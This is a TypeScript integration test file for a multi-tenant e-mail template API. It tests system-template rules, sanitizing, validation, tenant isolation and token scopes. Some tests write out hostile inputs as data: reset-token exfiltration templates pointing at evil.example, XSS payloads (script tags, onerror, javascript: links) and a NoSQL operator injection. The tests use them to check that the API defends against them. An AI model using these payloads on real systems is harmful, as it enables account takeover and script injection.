import { expect } from 'chai';
import { Types } from 'mongoose';
import { applicationTemplate, SYSTEM_TEMPLATES_EN } from '../../src/modules/mail/index.js';
import type { TestContext } from '../helpers/context.js';
import { startSmtpSink, type SmtpSink } from './smtp-sink.js';
import {
  addApplication,
  createMailContext,
  listTemplates,
  member,
  systemTemplateOf,
  tenant,
  type Member,
  type Tenant,
  type TemplateJson,
} from './template-helpers.js';

const SYSTEM_NAMES = [
  'welcome',
  'password_reset',
  'notification',
  'project_invitation',
  'email_confirmation',
  'email_code',
  'pool_invitation',
  'alert',
];
/** An application's copies start as the end users' wording: its mails go to its project pool. */
const WELCOME = applicationTemplate('welcome', 'de');
/** Each system template in German and English. */
const SYSTEM_COPIES = SYSTEM_NAMES.length * 2;

describe('e-mail templates API', () => {
  let sink: SmtpSink;
  let ctx: TestContext;
  let alice: Member;
  let shop: Tenant;

  before(async () => {
    sink = await startSmtpSink();
    ctx = await createMailContext(sink);
    alice = await member(ctx, 'alice');
    shop = await tenant(ctx, alice, 'Shop');
  });
  after(async () => {
    await ctx?.close();
    await sink?.close();
  });

  const templates = () => ctx.database.connection.collection('email_templates');
  const createTemplate = (body: Record<string, unknown>, who: Member = alice) =>
    ctx.request
      .post('/api/v1/email-templates')
      .set(who.auth)
      .send({ application_id: shop.application, ...body });
  const patch = (id: string, body: Record<string, unknown>, who: Member = alice) =>
    ctx.request.patch(`/api/v1/email-templates/${id}`).set(who.auth).send(body);
  const preview = (id: string, body: Record<string, unknown>) =>
    ctx.request.post(`/api/v1/email-templates/${id}/preview`).set(alice.auth).send(body);

  describe('the system set of every application', () => {
    it('is created with the application: each system template in de and en, owned by that application', async () => {
      const stored = await templates()
        .find({ application_id: new Types.ObjectId(shop.application) })
        .toArray();
      expect(stored.map((template) => `${template.name}/${template.locale}`)).to.have.members(
        SYSTEM_NAMES.flatMap((name) => [`${name}/de`, `${name}/en`]),
      );
      const listed = await listTemplates(ctx, alice, { application_id: shop.application, kind: 'system' });
      expect(listed).to.have.length(SYSTEM_COPIES);
      for (const template of listed) {
        expect(template.is_system_template).to.equal(true);
        expect(template.application_id).to.equal(shop.application);
      }
      const welcome = listed.find((template) => template.name === 'welcome' && template.locale === 'de')!;
      expect(welcome.subject).to.equal(WELCOME.subject);
      expect(welcome.html_content).to.equal(WELCOME.html_content);
      expect(welcome.variables).to.deep.equal(WELCOME.variables);
      const welcomeEn = listed.find((template) => template.name === 'welcome' && template.locale === 'en')!;
      expect(welcomeEn.subject).to.equal(SYSTEM_TEMPLATES_EN.welcome.subject);
    });

    it('is created on first use for an application that existed before templates', async () => {
      const older = await addApplication(ctx, alice, shop.project, 'Older');
      // As if the application had been created before this feature: no copies in the database.
      await templates().deleteMany({ application_id: new Types.ObjectId(older) });
      const listed = await listTemplates(ctx, alice, { application_id: older });
      expect(listed.filter((template) => template.is_system_template)).to.have.length(SYSTEM_COPIES);
      expect(await templates().countDocuments({ application_id: new Types.ObjectId(older) })).to.equal(
        SYSTEM_COPIES,
      );
    });

    it('gives each application its own copy: editing one changes only that application’s', async () => {
      const other = await addApplication(ctx, alice, shop.project, 'Other');
      const mine = await systemTemplateOf(ctx, alice, shop.application, 'welcome');
      const theirs = await systemTemplateOf(ctx, alice, other, 'welcome');
      expect(mine.id).not.to.equal(theirs.id);
      await patch(mine.id, { subject: 'Willkommen im Shop, {{name}}' }).expect(200);
      expect((await systemTemplateOf(ctx, alice, other, 'welcome')).subject).to.equal(WELCOME.subject);
      await ctx.request.post(`/api/v1/email-templates/${mine.id}/reset`).set(alice.auth).expect(200);
    });

    it('lists system and custom templates apart with kind, each marked is_system_template', async () => {
      const custom = (
        await createTemplate({ name: 'Kind check', subject: 'Hi', html_content: '<p>Hi</p>' }).expect(201)
      ).body as TemplateJson;
      const all = await listTemplates(ctx, alice, { application_id: shop.application });
      const onlyCustom = await listTemplates(ctx, alice, {
        application_id: shop.application,
        kind: 'custom',
      });
      expect(all.map((template) => template.id)).to.include(custom.id);
      expect(onlyCustom.every((template) => !template.is_system_template)).to.equal(true);
      expect(onlyCustom.map((template) => template.id)).to.include(custom.id);
      await ctx.request.delete(`/api/v1/email-templates/${custom.id}`).set(alice.auth).expect(204);
    });

    it('copy-system adds only the system templates an application lacks and changes none it has', async () => {
      const welcome = await systemTemplateOf(ctx, alice, shop.application, 'welcome');
      await patch(welcome.id, { subject: 'Angepasst' }).expect(200);
      await templates().deleteOne({
        _id: new Types.ObjectId(
          (await systemTemplateOf(ctx, alice, shop.application, 'notification', 'en')).id,
        ),
      });
      // Listing would restore it too; copy-system is the explicit way and says how many it added.
      const response = await ctx.request
        .post(`/api/v1/applications/${shop.application}/email-templates/copy-system`)
        .set(alice.auth)
        .expect(200);
      expect(response.body.added).to.equal(1);
      expect(response.body.data).to.have.length(SYSTEM_COPIES);
      expect((await systemTemplateOf(ctx, alice, shop.application, 'welcome')).subject).to.equal('Angepasst');
      const again = await ctx.request
        .post(`/api/v1/applications/${shop.application}/email-templates/copy-system`)
        .set(alice.auth)
        .expect(200);
      expect(again.body.added).to.equal(0);
      await ctx.request.post(`/api/v1/email-templates/${welcome.id}/reset`).set(alice.auth).expect(200);
    });
  });

  describe('system templates', () => {
    it('cannot be deleted, deactivated, renamed, moved or switched to another locale (409, clear message)', async () => {
      const reset = await systemTemplateOf(ctx, alice, shop.application, 'password_reset');
      const other = await addApplication(ctx, alice, shop.project, 'Target');
      const deleted = await ctx.request
        .delete(`/api/v1/email-templates/${reset.id}`)
        .set(alice.auth)
        .expect(409);
      expect(deleted.body).to.include({ code: 'system_template_undeletable' });
      expect(deleted.body.error).to.match(/cannot be deleted/);
      for (const [body, message] of [
        [{ is_active: false }, /cannot be deleted or deactivated/],
        [{ name: 'my_reset' }, /cannot be renamed/],
        [{ application_id: other }, /cannot be moved to another application/],
        [{ locale: 'en' }, /locale of a system template cannot change/],
      ] as const) {
        const response = await patch(reset.id, body).expect(409);
        expect(response.body.error, JSON.stringify(body)).to.match(message);
      }
      const after = await systemTemplateOf(ctx, alice, shop.application, 'password_reset');
      expect(after).to.deep.equal(reset);
    });

    it('can be customized (subject and content) and reset to the default: subject, content and variables', async () => {
      const welcome = await systemTemplateOf(ctx, alice, shop.application, 'welcome');
      const customized = (
        await patch(welcome.id, {
          // Unchanged name and locale may come along, as the editor sends the whole form.
          name: 'welcome',
          locale: 'de',
          subject: 'Hallo {{name}} im {{shopName}}',
          html_content: '<p>Schön, dass Sie da sind, {{name}}.</p><p><a href="{{dashboardUrl}}">Los</a></p>',
        }).expect(200)
      ).body as TemplateJson;
      expect(customized.variables).to.deep.equal(['name', 'shopName', 'dashboardUrl']);
      expect(customized.is_system_template).to.equal(true);

      const reset = (
        await ctx.request.post(`/api/v1/email-templates/${welcome.id}/reset`).set(alice.auth).expect(200)
      ).body as TemplateJson;
      expect(reset.subject).to.equal(WELCOME.subject);
      expect(reset.html_content).to.equal(WELCOME.html_content);
      expect(reset.variables).to.deep.equal(WELCOME.variables);
      expect(reset.id).to.equal(welcome.id);
    });

    it('keeps the link its mail exists for, and secret links only as a whole href', async () => {
      const reset = await systemTemplateOf(ctx, alice, shop.application, 'password_reset');
      const missing = await patch(reset.id, { html_content: '<p>Kein Link mehr</p>' }).expect(400);
      expect(missing.body.code).to.equal('required_placeholder_missing');
      expect(missing.body.error).to.contain('{{resetLink}}');

      // Each of these would hand the one-time token to another server or make it part of another URL.
      for (const html of [
        '<p><a href="{{resetLink}}">x</a><img src="https://evil.example/pixel?{{resetLink}}"></p>',
        '<p><a href="https://evil.example/?next={{resetLink}}">Reset</a><a href="{{resetLink}}">x</a></p>',
        '<p>evil.example/?t={{resetLink}} <a href="{{resetLink}}">x</a></p>',
        '<p><span>evil.example/?t=</span>{{resetLink}}<a href="{{resetLink}}">x</a></p>',
      ]) {
        const response = await patch(reset.id, { html_content: html }).expect(400);
        expect(response.body.code, html).to.equal('unsafe_template_placeholder');
        expect(response.body.details, html).to.be.an('array').that.is.not.empty;
      }
      const inSubject = await patch(reset.id, { subject: 'Token {{resetLink}}' }).expect(400);
      expect(inSubject.body.code).to.equal('unsafe_template_placeholder');
      expect(await systemTemplateOf(ctx, alice, shop.application, 'password_reset')).to.deep.equal(reset);

      await patch(reset.id, {
        html_content:
          '<p>Neues Passwort:</p><p><a href="{{resetLink}}">Festlegen</a></p><p>Oder: {{resetLink}}</p>',
      }).expect(200);
      await ctx.request.post(`/api/v1/email-templates/${reset.id}/reset`).set(alice.auth).expect(200);
    });

    it('refuses reset on a custom template', async () => {
      const custom = (
        await createTemplate({ name: 'No reset', subject: 'Hi', html_content: '<p>Hi</p>' }).expect(201)
      ).body as TemplateJson;
      const response = await ctx.request
        .post(`/api/v1/email-templates/${custom.id}/reset`)
        .set(alice.auth)
        .expect(409);
      expect(response.body.code).to.equal('not_a_system_template');
    });
  });

  describe('custom templates', () => {
    it('detects variables from {{name}} placeholders in subject, HTML and text', async () => {
      const created = (
        await createTemplate({
          name: 'Order shipped',
          subject: 'Ihre Bestellung {{ orderId }} ist unterwegs',
          html_content:
            '<p>Hallo {{customer}},</p><p><a href="{{trackingUrl}}">Sendung verfolgen</a> ({{orderId}})</p>',
          text_content: 'Hallo {{customer}}, Sendung: {{ trackingUrl }} – {{carrier}}',
        }).expect(201)
      ).body as TemplateJson;
      expect(created.variables).to.deep.equal(['orderId', 'customer', 'trackingUrl', 'carrier']);
      expect(created).to.include({ is_system_template: false, is_active: true, locale: 'de' });
      const fetched = await ctx.request
        .get(`/api/v1/email-templates/${created.id}`)
        .set(alice.auth)
        .expect(200);
      expect(fetched.body.variables).to.deep.equal(created.variables);
    });

    it('previews with data, listing placeholders without a value as unresolved', async () => {
      const created = (
        await createTemplate({
          name: 'Preview me',
          subject: 'Rechnung {{invoice}} für {{customer}}',
          html_content:
            '<p>Hallo {{customer}}, Betrag: {{amount}}</p><p><a href="{{payLink}}">Bezahlen</a></p>',
        }).expect(201)
      ).body as TemplateJson;
      const response = await preview(created.id, { data: { customer: 'Ada', invoice: 'R-7' } }).expect(200);
      expect(response.body.subject).to.equal('Rechnung R-7 für Ada');
      expect(response.body.html).to.contain('Hallo Ada, Betrag: {{amount}}');
      expect(response.body.html).to.contain('href="{{payLink}}"');
      expect(response.body.text).to.contain('Hallo Ada, Betrag: {{amount}}');
      expect(response.body.unresolved).to.deep.equal(['amount', 'payLink']);

      const complete = await preview(created.id, {
        data: { customer: 'Ada', invoice: 'R-7', amount: 12.5, payLink: 'https://pay.example/r7' },
      }).expect(200);
      expect(complete.body.unresolved).to.deep.equal([]);
      expect(complete.body.html).to.contain('href="https://pay.example/r7"');
    });

    it('previews a draft without saving it', async () => {
      const created = (
        await createTemplate({ name: 'Draft', subject: 'Alt', html_content: '<p>Alt</p>' }).expect(201)
      ).body as TemplateJson;
      const response = await preview(created.id, {
        subject: 'Neu {{x}}',
        html_content: '<p>Neu<script>alert(1)</script></p>',
        data: {},
      }).expect(200);
      expect(response.body.subject).to.equal('Neu {{x}}');
      expect(response.body.html).to.contain('<p>Neu</p>').and.not.to.contain('script');
      expect(response.body.unresolved).to.deep.equal(['x']);
      const stored = await ctx.request
        .get(`/api/v1/email-templates/${created.id}`)
        .set(alice.auth)
        .expect(200);
      expect(stored.body.subject).to.equal('Alt');
    });

    it('escapes values and sanitizes the HTML on save: a stored <script> never reaches the preview', async () => {
      const created = (
        await createTemplate({
          name: 'Hostile',
          subject: 'Hallo {{name}}',
          html_content:
            '<p onclick="steal()">Hallo {{name}}<script>alert(document.cookie)</script></p>' +
            '<a href="javascript:alert(1)">A</a><a href="{{link}}">B</a><img src="x" onerror="alert(2)">' +
            '<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="p"></form>' +
            '<div style="color:red;background:url(https://evil.example/t.gif)">Stil</div>',
        }).expect(201)
      ).body as TemplateJson;
      for (const forbidden of [
        '<script',
        'onclick',
        'onerror',
        'javascript:',
        '<iframe',
        '<form',
        '<input',
        'url(',
      ]) {
        expect(created.html_content, forbidden).not.to.contain(forbidden);
      }
      expect(created.html_content).to.contain('Hallo {{name}}').and.to.contain('href="{{link}}"');
      expect(created.html_content).to.contain('style="color:red"');

      const response = await preview(created.id, {
        data: { name: '<img src=x onerror=alert(3)>', link: 'javascript:alert(4)' },
      }).expect(200);
      expect(response.body.html).to.contain('Hallo &lt;img src=x onerror=alert(3)&gt;');
      expect(response.body.html).not.to.contain('<img src=x');
      expect(response.body.html).not.to.contain('javascript:');
      expect(response.body.html).to.contain('<a href="#">B</a>');
      expect(response.body.html).not.to.contain('<script');

      // A script that reached the database some other way is removed when the template is rendered.
      await templates().updateOne(
        { _id: new Types.ObjectId(created.id) },
        { $set: { html_content: '<p>Hallo {{name}}</p><script>alert(5)</script>' } },
      );
      const again = await preview(created.id, { data: { name: 'Ada' } }).expect(200);
      expect(again.body.html).to.contain('Hallo Ada').and.not.to.contain('<script');
    });

    it('can be renamed, given another locale, deactivated, reactivated and deleted', async () => {
      const created = (
        await createTemplate({ name: 'Lifecycle', subject: 'Hi', html_content: '<p>Hi</p>' }).expect(201)
      ).body as TemplateJson;
      const renamed = (await patch(created.id, { name: 'Lifecycle 2', locale: 'en' }).expect(200)).body;
      expect(renamed).to.include({ name: 'Lifecycle 2', locale: 'en' });

      await patch(created.id, { is_active: false }).expect(200);
      const active = await listTemplates(ctx, alice, { application_id: shop.application, kind: 'custom' });
      expect(active.map((template) => template.id)).not.to.include(created.id);
      const all = await listTemplates(ctx, alice, {
        application_id: shop.application,
        kind: 'custom',
        include_inactive: 'true',
      });
      expect(all.find((template) => template.id === created.id)?.is_active).to.equal(false);
      await patch(created.id, { is_active: true }).expect(200);

      await ctx.request.delete(`/api/v1/email-templates/${created.id}`).set(alice.auth).expect(204);
      await ctx.request.get(`/api/v1/email-templates/${created.id}`).set(alice.auth).expect(404);
    });

    it('moves to another of the caller’s applications, never into another tenant’s', async () => {
      const created = (
        await createTemplate({ name: 'Mover', subject: 'Hi', html_content: '<p>Hi</p>' }).expect(201)
      ).body as TemplateJson;
      const second = await addApplication(ctx, alice, shop.project, 'Second');
      const moved = (await patch(created.id, { application_id: second }).expect(200)).body as TemplateJson;
      expect(moved.application_id).to.equal(second);

      const mallory = await member(ctx, 'mallory');
      const foreign = await tenant(ctx, mallory, 'Foreign');
      const ownOfMallory = (
        await ctx.request
          .post('/api/v1/email-templates')
          .set(mallory.auth)
          .send({
            application_id: foreign.application,
            name: 'Bait',
            subject: 'Hi',
            html_content: '<p>Hi</p>',
          })
          .expect(201)
      ).body as TemplateJson;
      // Mallory cannot push her template into Alice's application…
      await patch(ownOfMallory.id, { application_id: shop.application }, mallory).expect(404);
      // …nor reach Alice's templates by id.
      await ctx.request.get(`/api/v1/email-templates/${moved.id}`).set(mallory.auth).expect(404);
      await preview(moved.id, {}).expect(200);
      const names = (await listTemplates(ctx, alice, { application_id: shop.application })).map(
        (t) => t.name,
      );
      expect(names).not.to.include('Bait');
    });

    it('keeps names unique per application and locale, and system names reserved', async () => {
      await createTemplate({ name: 'Unique', subject: 'Hi', html_content: '<p>Hi</p>' }).expect(201);
      const taken = await createTemplate({ name: 'Unique', subject: 'Hi', html_content: '<p>Hi</p>' }).expect(
        409,
      );
      expect(taken.body.code).to.equal('email_template_name_taken');
      await createTemplate({ name: 'Unique', locale: 'en', subject: 'Hi', html_content: '<p>Hi</p>' }).expect(
        201,
      );
      const reserved = await createTemplate({
        name: 'password_reset',
        subject: 'Hi',
        html_content: '<p>x</p>',
      }).expect(409);
      expect(reserved.body.code).to.equal('email_template_name_reserved');
    });
  });

  describe('validation', () => {
    it('answers 400 with the field for missing or malformed input', async () => {
      for (const [body, field] of [
        [{ subject: 'Hi', html_content: '<p>x</p>' }, 'body.name'],
        [{ name: 'x', html_content: '<p>x</p>' }, 'body.subject'],
        [{ name: 'x', subject: '  ', html_content: '<p>x</p>' }, 'body.subject'],
        [{ name: 'x', subject: 'Hi' }, 'body.html_content'],
        [{ name: 'x', subject: 'Hi', html_content: '<p>x</p>', locale: 'fr' }, 'body.locale'],
        [{ name: 'x'.repeat(101), subject: 'Hi', html_content: '<p>x</p>' }, 'body.name'],
        [
          { name: 'x', subject: 'Hi', html_content: '<p>x</p>', application_id: 'nope' },
          'body.application_id',
        ],
      ] as const) {
        const response = await createTemplate(body).expect(400);
        expect(response.body.code, JSON.stringify(body)).to.equal('validation_failed');
        expect(
          response.body.details.map((detail: { path: string }) => detail.path),
          JSON.stringify(body),
        ).to.include(field);
      }
      await ctx.request
        .get('/api/v1/email-templates')
        .query({ application_id: shop.application, kind: 'everything' })
        .set(alice.auth)
        .expect(400);
      await ctx.request.get('/api/v1/email-templates').set(alice.auth).expect(400);
      const welcome = await systemTemplateOf(ctx, alice, shop.application, 'welcome');
      await patch(welcome.id, {}).expect(400);
      await preview(welcome.id, { data: { nested: { $gt: '' } } }).expect(400);
    });

    it('answers 400 (not 500) when the HTML has no allowed content once sanitized, storing nothing', async () => {
      const count = await templates().countDocuments({
        application_id: new Types.ObjectId(shop.application),
      });
      for (const html_content of [
        '<script>x</script>',
        '<style>p{}</style><p><script>x</script></p>',
        '<iframe src="https://x.example"></iframe>',
      ]) {
        const response = await createTemplate({
          name: 'empty_after_sanitizing',
          subject: 'Hi',
          html_content,
        }).expect(400);
        expect(response.body.code, html_content).to.equal('validation_failed');
        expect(response.body.error).to.match(/no allowed content/i);
        expect(response.body.details.map((detail: { path: string }) => detail.path)).to.include(
          'body.html_content',
        );
      }
      expect(
        await templates().countDocuments({ application_id: new Types.ObjectId(shop.application) }),
      ).to.equal(count);

      // Editing a template to such HTML is refused the same way, and the template keeps its content.
      const kept = (
        await createTemplate({ name: 'kept_content', subject: 'Hi', html_content: '<p>Inhalt</p>' }).expect(
          201,
        )
      ).body as TemplateJson;
      const edited = await patch(kept.id, { html_content: '<script>alert(1)</script>' }).expect(400);
      expect(edited.body.code).to.equal('validation_failed');
      expect((await templates().findOne({ _id: new Types.ObjectId(kept.id) }))!.html_content).to.equal(
        '<p>Inhalt</p>',
      );
      // An image alone is content.
      await createTemplate({
        name: 'image_only',
        subject: 'Hi',
        html_content: '<img src="https://x.example/a.png" alt="">',
      }).expect(201);
    });

    it('needs a sign-in', async () => {
      const response = await ctx.request
        .get('/api/v1/email-templates')
        .query({ application_id: shop.application })
        .expect(401);
      expect(response.body.code).to.be.a('string');
    });
  });

  describe('API tokens', () => {
    it('act only on their own application, with the scope each route names', async () => {
      const tokenFor = async (application: string, scopes: string[]) =>
        (
          await ctx.request
            .post('/api/v1/tokens')
            .set(alice.auth)
            .send({ name: 'CI', scopes, application_id: application })
            .expect(201)
        ).body.token as string;
      const reader = { Authorization: `Bearer ${await tokenFor(shop.application, ['read'])}` };
      const writer = { Authorization: `Bearer ${await tokenFor(shop.application, ['write'])}` };
      const second = await addApplication(ctx, alice, shop.project, 'Tokened');

      await ctx.request
        .get('/api/v1/email-templates')
        .query({ application_id: shop.application })
        .set(reader)
        .expect(200);
      await ctx.request
        .get('/api/v1/email-templates')
        .query({ application_id: second })
        .set(reader)
        .expect(404);
      await ctx.request
        .post('/api/v1/email-templates')
        .set(reader)
        .send({ application_id: shop.application, name: 'By token', subject: 'Hi', html_content: '<p>x</p>' })
        .expect(403);
      await ctx.request
        .post('/api/v1/email-templates')
        .set(writer)
        .send({ application_id: shop.application, name: 'By token', subject: 'Hi', html_content: '<p>x</p>' })
        .expect(201);
      const elsewhere = await systemTemplateOf(ctx, alice, second, 'welcome');
      await ctx.request.get(`/api/v1/email-templates/${elsewhere.id}`).set(reader).expect(404);
    });
  });
});
